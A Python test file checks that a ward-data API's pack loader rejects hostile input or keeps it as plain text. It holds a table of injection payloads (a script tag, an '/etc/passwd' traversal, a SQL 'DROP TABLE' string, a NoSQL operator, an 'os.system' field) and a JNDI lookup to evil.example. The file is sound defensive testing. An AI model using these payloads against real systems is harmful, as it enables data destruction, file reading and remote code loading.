"""API10:2023, unsafe consumption of APIs: what comes from others is checked like anybody's message.

The service asks no other for anything. What it takes from outside is a council's reference pack, a
folder of files; `tests/packs/test_faults.py` holds a hundred faults of these. Here: a hostile one.
"""

import json
import os
from pathlib import Path

import pytest
from sqlalchemy import func, select
from sqlalchemy.ext.asyncio import AsyncSession

from tests.packs import exampleton
from wardapi.packs.errors import InvalidPack
from wardapi.packs.loader import load_pack
from wardapi.packs.reading import MAX_BYTES, read_pack
from wardapi.wards.models import Ward

HOSTILE = {
    "a script for a name": ("name", "<script>alert(1)</script>" * 20),
    "a path for a slug": ("slug", "../../etc/passwd"),
    "an address for a slug": ("slug", "http://evil.example/"),
    "SQL for a code": ("gss_code", "E05990001'; DROP TABLE wards; --"),
    "the character NUL": ("name", "Market\0"),
    "a list for a text": ("name", ["Market"]),
    "an object for a number": ("seats", {"$gt": 0}),
    "a number beyond all": ("seats", 10**30),
    "a field of its own": ("__class__", "os.system"),
}


@pytest.mark.parametrize(("field", "value"), HOSTILE.values(), ids=HOSTILE)
async def test_nothing_of_a_hostile_pack_is_loaded(
    session: AsyncSession, tmp_path: Path, now: object, field: str, value: object
) -> None:
    files = exampleton.files()
    files["wards.json"]["wards"][2][field] = value
    folder = exampleton.write(tmp_path / "pack", files)
    with pytest.raises(InvalidPack) as refused:
        await load_pack(session, folder, now=now)
    assert any(fault.file == "wards.json" for fault in refused.value.faults)
    assert await session.scalar(select(func.count()).select_from(Ward)) == 0


def test_a_file_too_large_is_not_read(tmp_path: Path) -> None:
    folder = exampleton.write(tmp_path / "pack")
    os.truncate(folder / "wards.json", MAX_BYTES + 1)
    with pytest.raises(InvalidPack, match="is larger than"):
        read_pack(folder)


def test_text_that_looks_like_code_stays_text(tmp_path: Path) -> None:
    files = exampleton.files()
    files["council.json"]["name"] = "{{ 7 * 7 }} ${jndi:ldap://evil.example} %(x)s"
    pack = read_pack(exampleton.write(tmp_path / "pack", files))
    assert pack.council.name == json.loads(json.dumps(files["council.json"]["name"]))
